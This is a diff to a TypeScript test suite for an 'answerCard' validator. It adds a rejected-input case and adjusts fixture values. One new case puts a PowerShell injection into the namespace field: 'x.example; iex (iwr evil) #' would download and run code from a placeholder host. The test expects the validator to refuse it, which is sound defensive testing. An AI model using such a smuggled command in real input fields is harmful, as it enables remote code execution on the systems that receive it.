@@ -72,7 +72,7 @@ describe('answerCard', () => {
     ['a link that is not safe', withRun({ text: 'a', style: 'link', url: 'http://example.com' })],
     ['an odd marker', { ...answer, sections: [{ heading: '', blocks: [{ kind: 'step', marker: '-', runs: [] }] }] }],
     ['nothing to speak', { ...answer, speak: '' }],
-    ['too many values', { ...answer, fill: { a: '', b: '', c: '', d: '', e: '' } }],
+    ['a value that is more than a host name', { ...answer, fill: { namespace: 'x.example; iex (iwr evil) #' } }],
   ])('refuses %s', (_what, data) => {
     expect(() => answerCard(data)).toThrow();
   });
@@ -111,7 +111,7 @@ function full(): AnswerData {
   const long = 'n'.repeat(100);
   return {
     ...answer,
-    fill: { namespace: long, serviceBusDomain: long, connectorAccount: long, user: long },
+    fill: { namespace: 'n'.repeat(61), serviceBusDomain: 'servicebus.usgovcloudapi.net' },
     title: words(110),
     meaning: words(240),
     facts: Array.from({ length: 4 }, () => ({ label: words(20), value: words(80) })),
